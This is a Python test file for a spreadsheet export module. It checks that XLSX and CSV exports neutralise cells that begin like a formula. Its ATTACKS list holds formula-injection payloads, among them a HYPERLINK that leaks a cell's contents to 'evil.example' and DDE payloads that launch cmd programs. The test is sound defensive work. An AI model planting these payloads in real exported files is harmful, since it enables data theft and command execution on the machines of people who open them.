"""The exports never carry a live formula: every text cell of the XLSX is text, and a CSV cell that a
spreadsheet would read as a formula starts with an apostrophe (the monthly notice and `check` both
write through api.export)."""

from __future__ import annotations

import csv

import pytest

from api.export import FORMULA_STARTS, Sheet, csv_text, write_csv, write_xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'"]
HARMLESS = ["H15.01", "Sở Tư pháp", "a=b", " =1", "1-2", "—", ""]


def sheets() -> list[Sheet]:
    rows = [[value, f"CB-{n}", n, -1.5, None] for n, value in enumerate(ATTACKS + HARMLESS)]
    return [Sheet("officers", "Cán bộ", ["Đơn vị", "Cán bộ", "n", "points", "empty"], rows, caption="=1+1 caption")]


def test_no_xlsx_cell_is_a_formula_and_each_keeps_its_text(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "notice.xlsx"
    write_xlsx(sheets(), path)
    page = load_workbook(path)["Cán bộ"]
    cells = [cell for row in page.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [row[0] for row in page.iter_rows(min_row=3, values_only=True)]
    # Kept as written (XML reads a carriage return back as a line feed).
    assert texts[:len(ATTACKS)] == [value.replace("\r", "\n") for value in ATTACKS]
    assert page["A1"].value == "=1+1 caption" and page["A1"].data_type == "s"
    numbers = [row[2:4] for row in page.iter_rows(min_row=3, values_only=True)]
    assert numbers == [(n, -1.5) for n in range(len(ATTACKS) + len(HARMLESS))]  # numbers stay numbers


def test_no_csv_cell_starts_like_a_formula(tmp_path):
    path = tmp_path / "notice.csv"
    write_csv(sheets(), path)
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    cells = [row[0] for row in rows[2:]]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert cells[:len(ATTACKS)] == ["'" + value for value in ATTACKS]
    assert cells[len(ATTACKS):] == HARMLESS  # nothing else is touched
    assert [row[3] for row in rows[2:]] == ["-1.5"] * len(cells)  # a negative number is a number


@pytest.mark.parametrize(("value", "expected"), [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"),
                                                 ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("1", "1"), (-1, -1),
                                                 (-0.5, -0.5), (None, None)])
def test_csv_text_neutralises_only_text_that_starts_like_a_formula(value, expected):
    assert csv_text(value) == expected
